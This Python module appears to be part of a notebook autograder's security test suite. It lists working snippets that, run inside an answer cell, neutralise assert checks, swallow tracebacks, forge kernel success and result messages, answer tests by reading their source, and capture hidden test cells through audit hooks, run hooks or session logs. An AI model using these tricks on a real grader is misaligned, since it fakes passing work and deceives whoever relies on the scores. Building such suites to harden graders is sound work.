"""The machinery that runs cells, turned against the test cells."""

from __future__ import annotations

from .attack import Attack, Kind, in_cells
from .seen import Aim

__all__ = ["ATTACKS"]


def _gains(name: str, source: str, question: str = "count") -> Attack:
    return in_cells(name, Kind.IN_KERNEL, Aim.GAINS_POINTS, {question: source})


def _tells(name: str, source: str) -> Attack:
    answers = {"count": f"@TELL@\n\n{source}"}
    return in_cells(name, Kind.IN_KERNEL, Aim.READS_SECRET, answers)


CLEANUP_TRANSFORMER = """\
def soften(lines):
    return ["pass\\n"] if any("assert" in line for line in lines) else lines


get_ipython().input_transformers_cleanup.append(soften)"""

POST_TRANSFORMER = """\
def soften(lines):
    return [line.replace("assert ", "None and ") for line in lines]


get_ipython().input_transformers_post.append(soften)"""

AST_TRANSFORMER = """\
import ast


class NoAsserts(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.copy_location(ast.Pass(), node)


get_ipython().ast_transformers.append(NoAsserts())"""

RUN_CELL = """\
shell = get_ipython()
true_run = shell.run_cell
true_run_async = shell.run_cell_async


def run_cell(raw_cell, *args, **kwargs):
    return true_run("pass" if "assert" in raw_cell else raw_cell, *args, **kwargs)


def run_cell_async(raw_cell, *args, **kwargs):
    return true_run_async("pass" if "assert" in raw_cell else raw_cell, *args, **kwargs)


shell.run_cell = run_cell
shell.run_cell_async = run_cell_async"""

RUN_CODE = """\
shell = get_ipython()


async def run_code(code, result=None, *, async_=False):
    return False


shell.run_code = run_code"""

DO_EXECUTE = """\
kernel = get_ipython().kernel
true_execute = kernel.do_execute


async def do_execute(code, *args, **kwargs):
    return await true_execute("pass" if "assert" in code else code, *args, **kwargs)


kernel.do_execute = do_execute"""

SWALLOW = """\
shell = get_ipython()
shell.showtraceback = lambda *args, **kwargs: None
shell._showtraceback = lambda *args, **kwargs: None
shell.kernel.iopub_socket and None"""

SWALLOW_AND_REPLY = """\
kernel = get_ipython().kernel
get_ipython()._showtraceback = lambda *args, **kwargs: None


async def do_execute(code, *args, **kwargs):
    return {"status": "ok", "execution_count": 1, "payload": [], "user_expressions": {}}


kernel.do_execute = do_execute"""

CUSTOM_EXCEPTION = """\
def calm(self, kind, value, traceback, tb_offset=None):
    return []


get_ipython().set_custom_exc((Exception,), calm)"""

RESULT_SUCCESS = """\
from IPython.core.interactiveshell import ExecutionResult

ExecutionResult.success = property(lambda self: True)
get_ipython()._showtraceback = lambda *args, **kwargs: None"""

FORMATTER = """\
plain = get_ipython().display_formatter.formatters["text/plain"]
plain.for_type(float, lambda value, printer, cycle: printer.text("4.0"))
recovery = 0.0
verdict = ''"""

DISPLAYHOOK = """\
hook = get_ipython().displayhook
hook.compute_format_data = lambda result: ({"text/plain": "4.0"}, {})
recovery = 0.0
verdict = ''"""

FORGED_RESULT = """\
kernel = get_ipython().kernel


def boast(info):
    content = {"execution_count": 1, "data": {"text/plain": "1.0"}, "metadata": {}}
    parent = kernel.get_parent("shell")
    kernel.session.send(kernel.iopub_socket, "execute_result", content, parent=parent)


get_ipython().events.register("pre_run_cell", boast)"""

FORGED_RESULT_IN_CALL = """\
def dilution(stock, final):
    kernel = get_ipython().kernel
    content = {"execution_count": 1, "data": {"text/plain": "2.0"}, "metadata": {}}
    parent = kernel.get_parent("shell")
    kernel.session.send(kernel.iopub_socket, "execute_result", content, parent=parent)
    return 0.0"""

FORGED_REPLY = """\
kernel = get_ipython().kernel


def forge(info):
    parent = kernel.get_parent("shell")
    content = {"status": "ok", "execution_count": 1, "payload": [], "user_expressions": {}}
    ident = kernel._shell_parent_ident.get()
    send = kernel.session.send
    send(kernel.shell_stream, "execute_reply", content, parent=parent, ident=ident)
    send(kernel.iopub_socket, "status", {"execution_state": "idle"}, parent=parent)


get_ipython().events.register("pre_run_cell", forge)"""

SEND_REWRITTEN = """\
from jupyter_client.session import Session

true_send = Session.send


def send(self, stream, kind, content=None, *args, **kwargs):
    if isinstance(kind, str) and kind == "error":
        return None
    if isinstance(kind, str) and kind == "execute_reply":
        content = {"status": "ok", "execution_count": 1, "payload": [], "user_expressions": {}}
    return true_send(self, stream, kind, content, *args, **kwargs)


Session.send = send"""

CLEAR_OUTPUT = """\
from IPython.display import clear_output

get_ipython().events.register("post_run_cell", lambda result: clear_output())"""

NAMESPACE_HOOK = """\
import re


def answer(info):
    found = re.search(r"count == (\\d+)", info.raw_cell or "")
    if found:
        get_ipython().user_ns["count"] = int(found.group(1))


get_ipython().events.register("pre_run_cell", answer)"""

SETTRACE = """\
import linecache
import re
import sys


def trace(frame, event, argument):
    source = "".join(linecache.getlines(frame.f_code.co_filename))
    found = re.search(r"assert count == (\\d+)", source)
    if found:
        frame.f_globals["count"] = int(found.group(1))


sys.settrace(trace)"""

SETPROFILE = SETTRACE.replace("def trace", "def profile").replace(
    "sys.settrace(trace)", "sys.setprofile(profile)"
)

AUDIT = """\
import sys


def listen(event, arguments):
    if event == "compile" and arguments[0]:
        tell(arguments[0])


sys.addaudithook(listen)"""

PRE_RUN = 'get_ipython().events.register("pre_run_cell", lambda info: tell(info.raw_cell))'

LOGSTART = 'get_ipython().run_line_magic("logstart", "-o -q loot.log")'

LOG_TOLD = {
    "count": f"{LOGSTART}\ncount = 0",
    "recovery": "@TELL@\n\ntell(open('loot.log', encoding='utf-8').read())",
}

SHELL_CLASS = """\
from ipykernel.zmqshell import ZMQInteractiveShell

true_run = ZMQInteractiveShell.run_cell


class Kind(ZMQInteractiveShell):
    def transform_cell(self, raw_cell):
        return "pass\\n" if "assert" in raw_cell else super().transform_cell(raw_cell)


get_ipython().__class__ = Kind"""

ATTACKS = (
    _gains("cleanup-transformer", CLEANUP_TRANSFORMER),
    _gains("post-transformer", POST_TRANSFORMER),
    _gains("ast-transformer", AST_TRANSFORMER),
    _gains("run-cell-replaced", RUN_CELL),
    _gains("run-code-replaced", RUN_CODE),
    _gains("do-execute-replaced", DO_EXECUTE),
    _gains("traceback-swallowed", SWALLOW),
    _gains("traceback-swallowed-and-reply", SWALLOW_AND_REPLY),
    _gains("custom-exception-handler", CUSTOM_EXCEPTION),
    _gains("always-a-success", RESULT_SUCCESS),
    _gains("formatter-forges-credit", FORMATTER, "recovery"),
    _gains("displayhook-forges-credit", DISPLAYHOOK, "recovery"),
    _gains("forged-result", FORGED_RESULT),
    _gains("forged-result-in-call", FORGED_RESULT_IN_CALL, "dilution"),
    _gains("forged-reply", FORGED_REPLY),
    _gains("messages-rewritten", SEND_REWRITTEN),
    _gains("outputs-cleared", CLEAR_OUTPUT),
    _gains("hook-answers", NAMESPACE_HOOK),
    _gains("trace-answers", SETTRACE),
    _gains("profile-answers", SETPROFILE),
    _gains("shell-changes-class", SHELL_CLASS),
    _tells("audit-hook", AUDIT),
    _tells("pre-run-hook", PRE_RUN),
    in_cells("cell-log", Kind.IN_KERNEL, Aim.READS_SECRET, LOG_TOLD),
)
